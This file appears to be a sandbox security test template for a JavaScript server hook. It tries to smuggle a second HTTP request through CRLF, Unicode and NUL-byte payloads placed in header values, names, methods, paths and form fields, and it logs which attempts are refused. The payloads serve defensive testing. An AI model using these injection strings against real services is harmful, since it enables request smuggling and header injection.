// attack: puts a second request into the head of the first
// net: %GRANTED%
// worker: held
// process: held
routerAdd("GET", "/attack/%NAME%", async (e) => {
  const found = [];
  const attempt = async (what, fn) => {
    try { found.push([what, await fn()]) } catch (error) { found.push([what, "refused: " + error]) }
  };
  const tail = "\r\nContent-Length: 0\r\n\r\nGET /%NAME%/smuggled HTTP/1.1\r\nHost: a\r\n\r\n";
  const url = "http://%GRANTED%/a";
  for (const bad of [tail, tail.replaceAll("\r", ""), tail.replaceAll("\n", ""), "\u010d\u010a" + tail, "\0" + tail]) {
    await attempt("value", async () => (await fetch(url, { headers: { "x-a": "1" + bad } })).text());
    await attempt("name", async () => (await fetch(url, { headers: [["x-a: 1" + bad, "1"]] })).text());
    await attempt("method", async () => (await fetch(url, { method: "GET /b HTTP/1.1" + bad })).text());
    await attempt("path", async () => (await fetch(url + " HTTP/1.1" + bad)).text());
    await attempt("send value", () => $http.send({ url, headers: { "x-a": "1" + bad } }).raw);
    await attempt("send name", () => $http.send({ url, headers: { ["x-a: 1" + bad]: "1" } }).raw);
    await attempt("send method", () => $http.send({ url, method: "GET /b HTTP/1.1" + bad }).raw);
    await attempt("send path", () => $http.send({ url: url + " HTTP/1.1" + bad }).raw);
    const form = new FormData();
    form.append("a\"" + bad, "x");
    await attempt("form", () => $http.send({ url, method: "POST", body: form }).raw);
  }
  return e.json(200, found);
});
